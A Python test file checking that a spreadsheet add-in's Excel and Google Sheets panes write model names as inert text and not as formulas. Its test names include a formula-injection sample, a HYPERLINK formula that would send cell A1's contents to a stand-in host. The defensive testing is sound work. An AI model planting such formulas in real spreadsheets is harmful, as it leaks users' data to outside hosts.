"""Names are texts in the cells that our panes write, whatever a spreadsheet would make of them. The scripts
of the panes are real, and run in Node over stand-ins for Excel and for Google Sheets."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest
from sheets_person import play, told

from own_models import Mine
from plm_ratios.hosts.sheets.export import export

HOSTS = Path(__file__).parents[2] / "addin/plm_ratios/hosts"
# A formula that fetches, and names as people give them.
NAMES = (
    '=HYPERLINK("http://example.org/?x="&A1,"click")',
    "+1-2",
    "-1",
    "@SUM(A1)",
    "12",
    "1E5",
    "TRUE",
    "2024-03-01",
    "'quoted",
    "ESM-2 15B",
)
BASES = [{"id": basis} for basis in ("sequences", "unique", "seen")]
_EXCEL = """
const fs = require("node:fs"), vm = require("node:vm");
const [office, pane, names, entries] = process.argv.slice(1);
vm.runInThisContext(fs.readFileSync(office, "utf8"));
vm.runInThisContext(fs.readFileSync(pane, "utf8") + "\\n;globalThis.plmSheet = plmSheet;");
plmSheet
  .insertComparison(JSON.parse(names), { basis: "seen" }, JSON.parse(entries))
  .then(() => console.log(JSON.stringify([excel.cells, excel.formats, excel.texts])));
"""


@pytest.fixture
def own(mine: Mine) -> None:
    """Models of these names, which the functions find."""
    models = [
        {
            "id": f"own-{number}",
            "name": name,
            "family": "Own",
            "kind": "protein",
            "facts": {
                quantity: [{"value": 10**9, "source": "own", "locator": "here", "confidence": "high"}]
                for quantity in ("params_total", "tokens_seen")
            },
        }
        for number, name in enumerate(NAMES)
        if name != "ESM-2 15B"
    ]
    mine.write(json.dumps({"models": models}))


@pytest.mark.usefixtures("own")
def test_the_pane_of_the_server_writes_them_as_texts_that_the_functions_find(node: str) -> None:
    entries = {"prefix": "", "length": 325, "target": 20, "bases": BASES}
    files = [Path(__file__).with_name("server_office.js"), HOSTS / "server/static/office_sheet.js"]
    given = [*map(str, files), json.dumps(NAMES), json.dumps(entries)]
    ran = subprocess.run([node, "-e", _EXCEL, *given], capture_output=True, text=True, check=False)
    assert ran.returncode == 0, ran.stderr
    cells, formats, texts = json.loads(ran.stdout)
    written = [cells[f"A{row}"] for row in range(5, 5 + len(NAMES))]
    assert written == list(NAMES)
    assert texts == [f"A{row}" for row, name in enumerate(NAMES, 5) if name[0] in "=+-@'"]
    assert {formats[f"A{row}"] for row in range(5, 5 + len(NAMES))} == {"@"}
    assert all(isinstance(told("RATIO", name, "seen"), float) for name in written)


@pytest.mark.usefixtures("own")
def test_the_script_of_google_sheets_writes_them_as_texts_that_its_functions_find(
    node: str, tmp_path: Path
) -> None:
    export(tmp_path / "script", replace=False)
    played = play(node, tmp_path / "script", ["run", "insertComparison", list(NAMES), {"basis": "seen"}])
    sheet, rows = played.sheets["Comparison"], range(9, 9 + len(NAMES))
    assert played.said == f"Made the sheet Comparison with {len(NAMES)} models."
    assert [sheet["values"].get(f"A{row}") for row in rows] == list(NAMES)
    assert played.column("Comparison", "G", 9, 8 + len(NAMES)) == [
        told("RATIO", name, "seen") for name in NAMES
    ]
